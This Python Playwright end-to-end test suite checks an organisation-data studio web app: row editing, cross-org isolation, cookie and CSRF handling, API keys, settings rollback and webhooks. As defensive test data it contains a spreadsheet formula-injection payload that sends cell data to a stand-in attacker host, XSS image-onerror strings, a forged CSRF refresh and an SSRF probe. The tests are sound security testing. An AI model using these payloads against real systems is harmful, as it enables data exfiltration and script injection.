"""The studio in a real browser against a real gateway, PostgreSQL, Redis and Mongo-wire."""

from __future__ import annotations

import csv
import io
import re
import uuid
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

import httpx
import pytest
from litestar.testing import AsyncTestClient
from playwright.async_api import Browser, Dialog, Response, expect
from standardwebhooks.webhooks import Webhook

from orgbase.platform.app import OrgbaseApp
from tests.e2e.conftest import NARROW, WIDE, Studio
from tests.support.http import (
    add_member,
    admin_at_aal2,
    bearer,
    create_org,
    new_user,
    save_settings,
    sign_in,
)
from tests.support.receivers import Answer, Received, Receiver

pytestmark = pytest.mark.slow

Client = AsyncTestClient[OrgbaseApp]
PAGES = (
    "overview",
    "database",
    "schema",
    "documents",
    "files",
    "redis",
    "access",
    "settings",
    "webhooks",
    "audit",
    "slo",
    "usage",
)
XSS = "<img src=x onerror=alert(1)>"


@dataclass
class World:
    email: str
    alpha: str
    beta: str
    alpha_tokens: dict[str, Any]
    secret_title: str
    secret_id: int


async def insert_tasks(client: Client, token: str, titles: list[str]) -> list[dict[str, Any]]:
    response = await client.post(
        "/v1/db/tasks",
        headers={**bearer(token), "Prefer": "return=representation"},
        json=[{"title": t} for t in titles],
    )
    assert response.status_code == 201, response.text
    rows: list[dict[str, Any]] = response.json()
    return rows


async def make_world(client: Client) -> World:
    """User A owns two orgs (alpha with tasks, beta empty); user B's org has a secret task."""
    user, tokens = await new_user(client)
    alpha = await create_org(client, tokens, "Studio Alpha")
    beta = await create_org(client, tokens, "Studio Beta")
    alpha_tokens = await sign_in(client, user["email"], alpha)
    await insert_tasks(client, alpha_tokens["access_token"], [f"alpha task {n}" for n in range(3)])
    other, other_tokens = await new_user(client)
    other_org = await create_org(client, other_tokens, "Other company")
    other_org_tokens = await sign_in(client, other["email"], other_org)
    secret = f"SECRET-B-{uuid.uuid4().hex[:8]}"
    [row] = await insert_tasks(client, other_org_tokens["access_token"], [secret])
    return World(user["email"], alpha, beta, alpha_tokens, secret, int(row["id"]))


async def choose_org(studio: Studio, org_id: str) -> None:
    await studio.page.select_option("#org-switcher", org_id)
    await expect(studio.page.locator("#org-switcher")).to_have_value(org_id)


async def open_in_org(studio: Studio, org_id: str, page_id: str) -> None:
    await choose_org(studio, org_id)
    await studio.open(page_id)


async def test_sign_in_switch_org_browse_and_edit_rows(studio: Studio, client: Client) -> None:
    world = await make_world(client)
    page = studio.page
    await studio.sign_in(world.email)
    await open_in_org(studio, world.beta, "database")
    await page.click('button[data-table="tasks"]')
    await studio.settled()
    await expect(page.locator(".empty")).to_contain_text("no rows")
    await open_in_org(studio, world.alpha, "database")
    await page.click('button[data-table="tasks"]')
    await studio.settled()
    await expect(page.locator("tbody tr")).to_have_count(3)
    await expect(page.locator("th").filter(has_text="title")).to_contain_text("text")
    await studio.screenshot("database")

    # Another org's row never shows: not in the list, not when asked for by its id.
    assert world.secret_title not in await page.content()
    await page.select_option('[aria-label="Filter column"]', "id")
    await page.fill('[aria-label="Filter value"]', str(world.secret_id))
    await page.click("text=Add filter")
    await studio.settled()
    await expect(page.locator(".empty")).to_contain_text("No row matches")
    assert world.secret_title not in await page.content()
    await page.click("text=id eq")  # remove the filter

    # Insert, with a bad value first: the API's message and request id are shown.
    await page.click("text=Insert row")
    await page.fill('form input[name="title"]', "x" * 300)
    await page.click('form button:has-text("Save")')
    error = page.locator("form .error")
    await expect(error).to_contain_text("request id")
    await expect(error).to_contain_text("code")
    await page.fill('form input[name="title"]', "made in the studio")
    await page.fill('form input[name="points"]', "7")
    await page.click('form button:has-text("Save")')
    await studio.settled()
    await expect(page.locator("tbody")).to_contain_text("made in the studio")
    listed = await client.get(
        "/v1/db/tasks?title=eq.made in the studio",
        headers=bearer(world.alpha_tokens["access_token"]),
    )
    [made] = listed.json()
    assert made["points"] == 7

    # Edit it, then delete it.
    await page.click(f'tr[data-key="{made["id"]}"]')
    await page.fill('form input[name="title"]', "renamed in the studio")
    await page.click('form button:has-text("Save")')
    await studio.settled()
    await expect(page.locator("tbody")).to_contain_text("renamed in the studio")
    fetched = await client.get(
        f"/v1/db/tasks?id=eq.{made['id']}", headers=bearer(world.alpha_tokens["access_token"])
    )
    assert fetched.json()[0]["title"] == "renamed in the studio"
    await page.click(f'tr[data-key="{made["id"]}"]')
    await page.click('form button:has-text("Delete")')
    await studio.settled()
    await expect(page.locator(f'tr[data-key="{made["id"]}"]')).to_have_count(0)
    gone = await client.get(
        f"/v1/db/tasks?id=eq.{made['id']}", headers=bearer(world.alpha_tokens["access_token"])
    )
    assert gone.json() == []


async def test_csv_download_escapes_formulas(studio: Studio, client: Client) -> None:
    """Text an org's user wrote that a spreadsheet would run (a formula) comes out of the
    studio's download with a leading quote; the rest is as stored."""
    world = await make_world(client)
    formula = '=HYPERLINK("http://attacker.test/?"&A1,"open")'
    await insert_tasks(client, world.alpha_tokens["access_token"], [formula])
    page = studio.page
    await studio.sign_in(world.email)
    await open_in_org(studio, world.alpha, "database")
    await page.click('button[data-table="tasks"]')
    await studio.settled()
    async with page.expect_download() as started:
        await page.click("#download-csv")
    download = await started.value
    assert download.suggested_filename == "tasks.csv"
    path = await download.path()
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    titles = sorted(row["title"] for row in rows)
    assert titles == sorted(["'" + formula] + [f"alpha task {n}" for n in range(3)])


async def test_tokens_stay_out_of_script_reach_and_sign_out_revokes(
    studio: Studio, client: Client
) -> None:
    world = await make_world(client)
    page = studio.page
    seen: list[dict[str, Any]] = []

    async def remember(response: Response) -> None:
        if response.url.endswith("/v1/auth/browser/sign-in") and response.ok:
            seen.append(await response.json())

    page.on("response", remember)
    await studio.sign_in(world.email)
    [session] = seen
    access_token = session["access_token"]
    storage = await page.evaluate(
        "JSON.stringify({local: {...localStorage}, session: {...sessionStorage}})"
    )
    assert access_token not in storage
    assert "refresh" not in storage
    script_cookies = await page.evaluate("document.cookie")
    assert "orgbase_csrf=" in script_cookies
    assert "orgbase_refresh" not in script_cookies  # httpOnly
    cookies = {c["name"]: c for c in await page.context.cookies()}
    refresh = cookies["orgbase_refresh"]
    assert refresh["httpOnly"] is True
    assert refresh["sameSite"] == "Strict"

    # A forged cross-site refresh (cookie but no CSRF header) is refused.
    forged_cookies = {"orgbase_refresh": refresh["value"], "orgbase_csrf": "x"}
    async with httpx.AsyncClient(base_url=studio.base, cookies=forged_cookies) as http:
        forged = await http.post("/v1/auth/browser/refresh")
        assert (forged.status_code, forged.json()["code"]) == (403, "csrf_failed")

    # A reload keeps the user signed in (the cookie, not storage, carries the session).
    await page.reload()
    await page.wait_for_selector("#org-switcher")

    await page.click("text=Sign out")
    await page.wait_for_selector("input[name=email]")
    async with httpx.AsyncClient(base_url=studio.base) as http:
        after = await http.get("/v1/auth/session", headers=bearer(access_token))
        assert after.status_code == 401
    assert "orgbase_refresh" not in {c["name"] for c in await page.context.cookies()}


async def test_create_and_revoke_an_api_key(studio: Studio, client: Client) -> None:
    world = await make_world(client)
    page = studio.page
    await studio.sign_in(world.email)
    await open_in_org(studio, world.alpha, "access")
    await studio.settled()
    await page.fill('[aria-label="Key name"]', "e2e key")
    await page.click("text=Create key")
    key = await page.locator("#new-api-key").inner_text(timeout=10000)
    await studio.screenshot("access")
    async with httpx.AsyncClient(base_url=studio.base) as http:
        assert (await http.get("/v1/db/tasks", headers={"apikey": key})).status_code == 200
        await page.click('button[data-key-name="e2e key"]')
        await expect(page.locator("text=revoked").first).to_be_visible()
        refused = await http.get("/v1/db/tasks", headers={"apikey": key})
        assert refused.status_code == 401
    # The key was shown once: after a reload only its prefix is listed.
    await page.reload()
    await page.wait_for_selector("#org-switcher")
    await studio.settled()
    assert key not in await page.content()


async def test_settings_diff_and_rollback(studio: Studio, client: Client) -> None:
    world = await make_world(client)
    headers = bearer(world.alpha_tokens["access_token"])
    base = f"/v1/orgs/{world.alpha}/settings"
    for theme in ("dark", "light"):
        written = await save_settings(client, headers, world.alpha, {"theme": theme})
    dark_version = written["version"] - 1
    page = studio.page
    await studio.sign_in(world.email)
    await open_in_org(studio, world.alpha, "settings")
    await studio.settled()
    diff = page.locator("#settings-diff")
    await expect(diff.locator(".del")).to_contain_text('"theme": "dark"')
    await expect(diff.locator(".add")).to_contain_text('"theme": "light"')
    await studio.screenshot("settings")
    await page.click(f"text=Roll back to v{dark_version}")
    await expect(page.locator("#settings-version")).to_contain_text(f"Version {dark_version + 2}")
    now = (await client.get(base, headers=headers)).json()
    assert now["settings"] == {"theme": "dark"}
    assert now["version"] == dark_version + 2


async def test_dashboard_updates_and_every_page_renders(
    studio: Studio, client: Client, browser: Browser
) -> None:
    world = await make_world(client)
    page = studio.page
    await studio.sign_in(world.email)
    await open_in_org(studio, world.alpha, "overview")
    await studio.settled()
    for dependency in ("postgres", "redis", "mongo"):
        await expect(page.locator(f'[data-dependency="{dependency}"] .badge').first).to_have_text(
            "ok"
        )
    await studio.open("redis")
    await studio.settled()
    keys_card = page.locator(".card", has_text="Cache keys")
    await expect(keys_card).to_contain_text("0")
    headers = bearer(world.alpha_tokens["access_token"])
    for n in range(3):
        written = await client.put(f"/v1/kv/e2e-{n}", headers=headers, json={"value": n})
        assert written.status_code in (200, 201), written.text
    # No reload: the page refreshes itself every 5 s.
    await expect(keys_card.locator(".value")).to_have_text("3", timeout=15000)

    for width, viewport in (("wide", WIDE), ("narrow", NARROW)):
        await page.set_viewport_size(viewport)  # type: ignore[arg-type]
        for page_id in PAGES:
            await studio.open(page_id)
            await studio.settled()
            await expect(page.locator("main h1")).to_be_visible()
            assert await page.locator(".error").count() == 0, page_id
            overflow = await page.evaluate(
                "document.documentElement.scrollWidth - document.documentElement.clientWidth"
            )
            assert overflow <= 1, f"{page_id} scrolls sideways at {width} width"
            await studio.screenshot(f"{page_id}-{width}")
    # Keyboard: the navigation is reachable with Tab and follows Enter.
    await page.set_viewport_size(WIDE)  # type: ignore[arg-type]
    await studio.open("overview")
    link = page.locator('nav a[data-page="audit"]')
    await link.focus()
    await page.keyboard.press("Enter")
    await expect(page.locator("main h1")).to_have_text("Audit log")
    del browser


async def test_usage_page_shows_the_requests_made(studio: Studio, client: Client) -> None:
    world = await make_world(client)
    headers = bearer(world.alpha_tokens["access_token"])
    for _ in range(4):
        assert (await client.get("/v1/db/tasks", headers=headers)).status_code == 200
    for n in range(2):
        written = await client.put(f"/v1/kv/usage-{n}", headers=headers, json={"value": n})
        assert written.status_code == 200
    # The requests went to this process's gateway: reading its usage flushes its counts,
    # so the studio's gateway process finds them in PostgreSQL.
    usage = await client.get(f"/v1/orgs/{world.alpha}/usage", headers=headers)
    assert usage.status_code == 200
    await studio.sign_in(world.email)
    await open_in_org(studio, world.alpha, "usage")
    await studio.settled()
    page = studio.page
    # make_world's insert and the four reads; the two cache writes.
    await expect(page.locator(".card", has_text="Data requests").locator(".value")).to_have_text(
        "5"
    )
    await expect(page.locator(".card", has_text="Cache requests").locator(".value")).to_have_text(
        "2"
    )
    # The reads' database time, metered per org (a figure with its unit).
    await expect(page.locator(".card", has_text="Database time").locator(".value")).to_have_text(
        re.compile(r"^\d+(\.\d)? (ms|s|min|h)$")
    )
    await expect(page.locator("svg.chart").first).to_be_visible()
    await page.select_option('[aria-label="Span"]', "30d")
    await studio.settled()
    await expect(page.locator(".card", has_text="Data requests").locator(".value")).to_have_text(
        "5"
    )
    assert studio.errors == []


def signed_by(secret: str, request: Received) -> dict[str, Any]:
    """The payload, once `standardwebhooks` has checked its signature with ``secret``."""
    payload: dict[str, Any] = Webhook(secret).verify(request.body, request.headers)
    return payload


async def endpoints_of(client: Client, world: World) -> list[dict[str, Any]]:
    listed = await client.get(
        f"/v1/orgs/{world.alpha}/webhooks", headers=bearer(world.alpha_tokens["access_token"])
    )
    assert listed.status_code == 200, listed.text
    found: list[dict[str, Any]] = listed.json()
    return found


async def sideways_overflow(studio: Studio) -> int:
    overflow: int = await studio.page.evaluate(
        "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    )
    return overflow


async def sign_in_at_aal2(studio: Studio, client: Client, world: World) -> None:
    """The world's user with a second factor, signed in with it (endpoints are security
    settings: an admin in person at aal2)."""
    strong = await admin_at_aal2(client, world.alpha_tokens)
    await studio.sign_in_at_aal2(world.email, strong["recovery_codes"][0])


async def test_webhook_endpoint_from_secret_to_delivery_log(studio: Studio, client: Client) -> None:
    world = await make_world(client)
    page = studio.page
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=studio.base)
    await sign_in_at_aal2(studio, client, world)
    await open_in_org(studio, world.alpha, "webhooks")
    await studio.settled()
    await expect(page.locator("#webhook-endpoints .empty")).to_contain_text("No endpoint yet")
    add = page.locator("#webhook-add")

    # The SSRF guard refuses a private address: the API's code and hint are on the page.
    await add.locator("[name=url]").fill("http://10.0.0.1/hook")
    await add.locator("[name=events]").fill("webhook.test")
    await add.get_by_role("button", name="Add endpoint").click()
    await expect(add.locator(".error")).to_contain_text("code webhook_destination_refused")
    await expect(add.locator(".error")).to_contain_text("ORGBASE_WEBHOOKS_ALLOWED_HOSTS")

    async with Receiver(Answer()) as receiver:
        await add.locator("[name=url]").fill(receiver.url)
        await add.locator("[name=events]").fill("webhook.test, db.*")
        await add.locator("[name=description]").fill("e2e receiver")
        await add.get_by_role("button", name="Add endpoint").click()
        secret_box = page.locator("#webhook-secret-box")
        await expect(secret_box).to_contain_text("you will not see it again")
        secret = await page.locator("#webhook-secret").inner_text()
        assert secret.startswith("whsec_")
        await secret_box.get_by_role("button", name="Copy", exact=True).click()
        assert await page.evaluate("navigator.clipboard.readText()") == secret
        row = page.locator("#webhook-endpoints tbody tr", has_text=receiver.url)
        await expect(row).to_contain_text("enabled")
        await expect(row).to_contain_text("db.*, webhook.test")
        [endpoint] = await endpoints_of(client, world)

        # A test event: signed with the secret shown, then delivered in the log.
        await row.get_by_role("button", name="Send test").click()
        [first] = await receiver.wait_for(1)
        assert signed_by(secret, first)["type"] == "webhook.test"
        log = page.locator("#webhook-log")
        await expect(log.locator("h2")).to_contain_text(receiver.url)
        delivered = log.locator('tbody tr[data-status="delivered"]')
        await expect(delivered).to_have_count(1, timeout=15000)
        await expect(delivered).to_contain_text("webhook.test")
        await expect(delivered.locator("td").nth(4)).to_have_text("200")
        await delivered.get_by_role("button", name="Details").click()
        detail = log.locator("tr.detail").first
        await expect(detail.locator("pre.payload")).to_contain_text('"type": "webhook.test"')
        await expect(detail.locator("pre.response")).to_have_text("ok")
        await studio.screenshot("webhooks-log")

        # Retry sends the same message again.
        await delivered.get_by_role("button", name="Retry").click()
        await expect(page.locator("#toasts")).to_contain_text("queued again")
        again = (await receiver.wait_for(2))[1]
        assert again.headers["webhook-id"] == first.headers["webhook-id"]
        await expect(log.locator('tbody tr[data-status="delivered"]')).to_have_count(1)

        # Rotation shows the new secret once; both sign during the overlap.
        await row.get_by_role("button", name="Rotate secret").click()
        await expect(secret_box).to_contain_text("the previous secret signs too")
        rotated = await page.locator("#webhook-secret").inner_text()
        assert rotated.startswith("whsec_")
        assert rotated != secret
        await row.get_by_role("button", name="Send test").click()
        third = (await receiver.wait_for(3))[2]
        assert signed_by(rotated, third)["type"] == "webhook.test"
        assert signed_by(secret, third)["type"] == "webhook.test"

        # Replay since a day ago (wider than any time zone gap between browser and here).
        since = (datetime.now() - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
        await log.locator("[name=since]").fill(since)
        await log.get_by_role("button", name="Replay").click()
        await expect(page.locator("#toasts")).to_contain_text("2 deliveries queued again")
        await receiver.wait_for(5)

        # More rows than a page: "Older" follows next_cursor.
        await insert_tasks(
            client, world.alpha_tokens["access_token"], [f"hooked {n}" for n in range(24)]
        )
        await receiver.wait_for(29, within=30)
        await log.get_by_role("button", name="Refresh").click()
        rows = log.locator("tbody tr[data-delivery]")
        await expect(rows).to_have_count(25)
        await expect(rows.first).to_contain_text("db.tasks.insert")
        await log.get_by_role("button", name="Older").click()
        await expect(rows).to_have_count(1)
        await expect(rows).to_contain_text("webhook.test")
        await expect(log.get_by_role("button", name="Older")).to_be_disabled()
        await log.get_by_role("button", name="Newer").click()
        await expect(rows).to_have_count(25)

        # Narrow screens: wide tables scroll inside their frame, the page does not.
        await page.set_viewport_size(NARROW)  # type: ignore[arg-type]
        assert await sideways_overflow(studio) <= 1
        await studio.screenshot("webhooks-log-narrow")
        await page.set_viewport_size(WIDE)  # type: ignore[arg-type]

    # Edit the events, then disable: the reason shows and no test can be sent.
    await row.get_by_role("button", name="Edit").click()
    edit = page.locator("#webhook-edit")
    await edit.locator("[name=events]").fill("member.* webhook.test")
    await edit.get_by_role("button", name="Save").click()
    await expect(row).to_contain_text("member.*, webhook.test")
    await row.get_by_role("button", name="Disable").click()
    await expect(row).to_contain_text("disabled by an admin")
    await expect(row.get_by_role("button", name="Send test")).to_have_count(0)
    [changed] = await endpoints_of(client, world)
    assert (changed["events"], changed["enabled"]) == (["member.*", "webhook.test"], False)

    # The secrets were shown once: a reload (back on this endpoint's log) has neither.
    await page.reload()
    await page.wait_for_selector("#org-switcher")
    await studio.settled()
    await expect(page.locator("#webhook-log h2")).to_contain_text(endpoint["url"])
    content = await page.content()
    assert secret not in content
    assert rotated not in content

    await row.get_by_role("button", name="Delete").click()
    await expect(page.locator("#webhook-endpoints .empty")).to_be_visible()
    await expect(page.locator("#webhook-log h2")).to_have_count(0)
    assert await endpoints_of(client, world) == []


async def test_webhook_strings_from_outside_render_as_text(studio: Studio, client: Client) -> None:
    world = await make_world(client)
    page = studio.page
    dialogs: list[str] = []

    def remember(dialog: Dialog) -> None:
        dialogs.append(dialog.message)

    page.on("dialog", remember)
    await sign_in_at_aal2(studio, client, world)
    await open_in_org(studio, world.alpha, "webhooks")
    await studio.settled()
    # The receiver answers markup too: its answer is shown in the delivery log.
    async with Receiver(Answer(body=XSS.encode())) as receiver:
        url = f"{receiver.url}?q=<img/src=x/onerror=alert(1)>"
        add = page.locator("#webhook-add")
        await add.locator("[name=url]").fill(url)
        await add.locator("[name=events]").fill("db.tasks.*")
        await add.locator("[name=description]").fill(XSS)
        await add.get_by_role("button", name="Add endpoint").click()
        await expect(page.locator("#webhook-secret-box")).to_contain_text(url)
        await insert_tasks(client, world.alpha_tokens["access_token"], [XSS])
        await receiver.wait_for(1)
        log = page.locator("#webhook-log")
        await log.get_by_role("button", name="Refresh").click()
        delivered = log.locator('tbody tr[data-status="delivered"]')
        await expect(delivered).to_have_count(1, timeout=15000)
        await delivered.get_by_role("button", name="Details").click()

    row = page.locator("#webhook-endpoints tbody tr")
    await expect(row.locator("code.url")).to_have_text(url)
    await expect(row.locator(".muted")).to_have_text(XSS)
    await expect(log.locator("h2")).to_contain_text(url)
    await expect(log.locator("pre.payload")).to_contain_text(XSS)
    await expect(log.locator("pre.response")).to_have_text(XSS)
    assert await page.locator("main img").count() == 0
    assert dialogs == []


async def test_webhooks_are_for_admins_only(studio: Studio, client: Client) -> None:
    _, owner_tokens = await new_user(client)
    org = await create_org(client, owner_tokens, "Hooks for admins")
    member, _ = await new_user(client)
    await add_member(client, owner_tokens, org, member, "member")
    page = studio.page
    await studio.sign_in(member["email"])
    await open_in_org(studio, org, "webhooks")
    await expect(page.locator("main .empty")).to_contain_text("admins")
    assert await page.locator("main form, main button").count() == 0
